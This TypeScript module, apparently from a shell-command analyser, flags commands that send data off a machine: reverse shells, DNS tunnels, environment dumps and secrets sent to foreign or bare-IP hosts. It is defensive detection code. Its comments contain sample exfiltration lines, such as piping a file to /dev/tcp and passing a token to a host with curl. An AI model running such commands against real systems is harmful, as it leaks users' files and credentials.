// What leaves this machine by an execution: the files whose content it sends, whole environments, shells that it hands
// to the other side. Worked out when the execution is reported, from its arguments and from what made its input and words.
import { type Channel, type Effect, type Execution, UNKNOWN } from "../execution.ts"
import type { ShellState } from "../shell/shell-state.ts"
import type { Walk } from "../shell/walk.ts"
import { contentOf } from "./content-of.ts"
import { DROPS } from "./drops.ts"
import { networkClass } from "./network-class.ts"
import { printsEnvironment } from "./prints-environment.ts"
import { areAmong, hostsOfSecret, isOwnLogin } from "./prints-secret.ts"
import { pushesElsewhere } from "./pushes-elsewhere.ts"
import { readAddress } from "./read-address.ts"
import { remoteShell } from "./remote-shell.ts"
import { hostsOfVariable, variableOf } from "./secret-variables.ts"
import { type Sending, sendingOf } from "./sending-of.ts"
import { tunnelsNames } from "./tunnels-names.ts"

/** Adds to the effects and traits of the execution. */
export function noteSent(execution: Execution, state: ShellState, walk: Walk): void {
  const makers = { input: state.inputFrom ?? [], words: state.wordsFrom ?? [] }
  if (remoteShell(execution, makers.input)) execution.traits.push("reverse-shell")
  if (tunnelsNames(execution, makers.words)) execution.traits.push("dns-tunnel")
  if (pushesElsewhere(execution, walk.reported)) execution.traits.push("foreign-remote")
  if (tellsSecret(execution, walk)) execution.traits.push("holds-secret")
  const sending = sendingOf(execution, state.input) ?? throughDevice(execution, makers.input)
  const isListed = state.origin === "xargs" || state.origin === "parallel"
  if (!sending) {
    const words = isListed ? [...makers.words, ...makers.input] : makers.words
    const to = execution.effects.filter(isFetch).map(({ target }) => target)
    noteSecret(execution, words, [], to)
    if (to.length > 0 && tellsVariable(words, to, "request")) execution.traits.push("sends-secret")
    return
  }
  const to = destinationsOf(execution, sending)
  if (to.length > 0 && to.every((address) => networkClass(address) === "loopback")) return
  const channel: Channel = to.some(isDrop) ? "drop" : sending.channel
  const fromInput = sending.input || isListed
  walk.budget.spend((sending.files.length * walk.reported.length) / 8)
  const copied = sending.files.flatMap(({ target }) => contentOf(target, execution.cwd, walk.reported))
  const bodies = [...(fromInput ? makers.input : []), ...copied]
  const sources = [...makers.words, ...bodies]
  walk.budget.spend(sources.length / 32)
  noteSecret(execution, makers.words, bodies, to)
  if (tellsVariable(sources, to, channel)) execution.traits.push("sends-secret")
  if (sources.some(printsEnvironment)) execution.traits.push("sends-environment")
  execution.effects.push(
    ...sources.flatMap(({ effects }) => effects.filter(isRead).map((effect) => sent(effect, channel))),
    ...sending.files.map(({ target, recursive }) =>
      sent({ access: "send", target, recursive, cwd: execution.cwd }, channel),
    ),
  )
}

/** @param bodies What made that which is sent beside the words. */
function noteSecret(
  execution: Execution,
  words: readonly Execution[],
  bodies: readonly Execution[],
  to: readonly string[],
): void {
  if (execution.program === "" && bodies.length === 0) return
  const isTold = words.some((maker) => {
    const hosts = hostsOfSecret(maker)
    return hosts !== undefined && to.length > 0 && !isOwnLogin(execution, to, hosts)
  })
  if (isTold || bodies.some(hostsOfSecret)) execution.traits.push("sends-secret")
}

/**
 * Whether a variable that holds a login goes to somebody else than whom that is for. What a variable is for whose name
 * merely sounds so, nobody knows: it is stopped only on its way to where anybody listens.
 */
function tellsVariable(makers: readonly Execution[], to: readonly string[], channel: Channel): boolean {
  return makers.some((maker) => {
    const name = variableOf(maker)
    if (name === undefined) return false
    if (channel === "drop" || channel === "raw") return true
    const hosts = hostsOfVariable(name)
    if (!hosts) return to.some(isBareAddress)
    const told = to.filter((address) => !isUntold(address))
    return told.length > 0 && !areAmong(told, hosts)
  })
}

/** Of `$API_URL/users` nobody can say whose it is. */
function isUntold(address: string): boolean {
  return (readAddress(address)?.hostname ?? UNKNOWN).startsWith(UNKNOWN)
}

function isBareAddress(address: string): boolean {
  const hostname = readAddress(address)?.hostname ?? ""
  return /^(\d+\.){3}\d+$|^\[/.test(hostname) && networkClass(address) === "public"
}

/** A secret in the words of what reaches the network: curl https://example.com/?token=… */
function tellsSecret({ program, argv, effects }: Execution, { context }: Walk): boolean {
  const { holdsSecret } = context
  if (!holdsSecret || program === "" || !effects.some(({ access }) => access === "fetch")) return false
  return argv.some((word) => holdsSecret(word))
}

/** `cat file > /dev/tcp/host/port`: what the command reads goes there. */
function throughDevice(execution: Execution, makers: readonly Execution[]): Sending | undefined {
  const to = makers
    .filter(({ program }) => program === "")
    .flatMap(({ effects }) => effects.filter(isConnection))
  if (execution.program === "" || to.length === 0) return undefined
  const files = execution.effects.filter(isRead)
  if (printsEnvironment(execution)) execution.traits.push("sends-environment")
  if (hostsOfSecret(execution)) execution.traits.push("sends-secret")
  return { channel: "raw", to: to.map(({ target }) => target), files, input: true }
}

function isFetch({ access }: Effect): boolean {
  return access === "fetch"
}

function isConnection({ access, target }: Effect): boolean {
  return access === "fetch" && target.startsWith("http://")
}

function sent(effect: Effect, channel: Channel): Effect {
  return { ...effect, access: "send", channel }
}

/** A descriptor, and a device, is no file whose content anybody wants. */
function isRead({ access, target }: Effect): boolean {
  return access === "read" && !/^(-|\/dev\/.*|https?:.*)$/s.test(target)
}

function destinationsOf({ effects }: Execution, { to }: Sending): readonly string[] {
  return to.length > 0 ? to : effects.filter(({ access }) => access === "fetch").map(({ target }) => target)
}

function isDrop(address: string): boolean {
  return DROPS.test(readAddress(address)?.hostname ?? "")
}
